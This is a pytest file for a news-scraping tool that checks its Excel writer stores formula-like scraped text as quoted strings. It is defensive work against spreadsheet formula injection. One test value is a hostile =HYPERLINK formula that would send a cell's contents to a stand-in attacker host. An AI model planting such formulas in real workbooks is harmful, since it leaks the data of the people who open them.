"""Every workbook Pantau writes goes through one writer: scraped text that starts like a formula (a
page title ``=HYPERLINK(...)``, a sentence starting with ``+`` or ``@``) is a string with Excel's quote
prefix, in the claims review sheet and in the report, never a live formula."""

from __future__ import annotations

import hashlib
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest

PANTAU = Path(sys.executable).parent / "pantau"
PUBLISHED = datetime(2024, 6, 10, 2, 0, tzinfo=UTC)
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"Lihat sumber")'
# A figure the words do not settle (a plan or a total of no stated segment): it waits for review.
TEXT = ("JAMBI - Pemkot Jambi memperluas perlindungan pekerja rentan dengan membayar iuran mereka dari APBD kota."
        "\n\nTotal peserta di Kota Jambi per Mei 2024 mencapai 30.958 orang.")


def _load_article(url: str, title: str) -> None:
    from pantau.news import analyse_text
    from warehouse.db import session_scope
    from warehouse.models import AuditIngestBatch
    from warehouse.news_loader import ArticleRecord, load_articles

    mentions, figures = analyse_text(TEXT, PUBLISHED)
    with session_scope() as session:
        batch = AuditIngestBatch(source_name="news", dataset="news", file_name="crawl", sha256="2" * 64,
                                 received_at=datetime.now(UTC), status="published")
        session.add(batch)
        session.flush()
        load_articles(session, batch.batch_id, [ArticleRecord(
            url=url, canonical_url=url, site_name="kabar", title=title, published_at=PUBLISHED, period_key=202406,
            author=None, section=None, tags=[], text=TEXT, content_sha256=hashlib.sha256(TEXT.encode()).hexdigest(),
            mentions=mentions, figures=figures)])


def test_claims_review_sheet_holds_a_formula_title_as_quoted_text(tmp_path: Path, sqlite_url: str) -> None:
    from openpyxl import load_workbook

    _load_article("http://news.test/formula", HOSTILE_TITLE)
    out = tmp_path / "review.xlsx"
    done = subprocess.run([str(PANTAU), "claims", "export-review", "--out", str(out)], capture_output=True,
                          text=True, timeout=180)
    assert done.returncode == 0, done.stderr
    sheet = load_workbook(out)["Perlu Ditinjau"]  # not data_only: a formula would read as one
    header = [c.value for c in sheet[1]]
    titles = [row[header.index("article_title")] for row in sheet.iter_rows(min_row=2)]
    assert titles, "the claim awaits review"
    for cell in titles:
        assert cell.value == HOSTILE_TITLE and cell.data_type == "s" and cell.quotePrefix
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


@pytest.mark.parametrize("text", ["=1+1", "+62 812", "-5", "@SUM(A1)", "\tTAB", "biasa"])
def test_the_one_writer_quotes_whatever_starts_like_a_formula(tmp_path: Path, text: str) -> None:
    from openpyxl import load_workbook

    from reports.spreadsheet import GuardedWorkbook

    book = GuardedWorkbook(tmp_path / "out.xlsx")
    bold = book.add_format({"bold": True})
    sheet = book.add_worksheet("S")
    sheet.write(0, 0, text)
    sheet.write_string(1, 0, text, bold)
    sheet.write_string("A3", text)
    path = book.finish()
    assert not (tmp_path / "out.part.xlsx").exists()
    cells = [row[0] for row in load_workbook(path)["S"].iter_rows()]
    assert [c.value for c in cells] == [text] * 3 and all(c.data_type == "s" for c in cells)
    assert [c.quotePrefix for c in cells] == [text != "biasa"] * 3
    assert cells[1].font.b  # the quoted twin keeps the format it was given
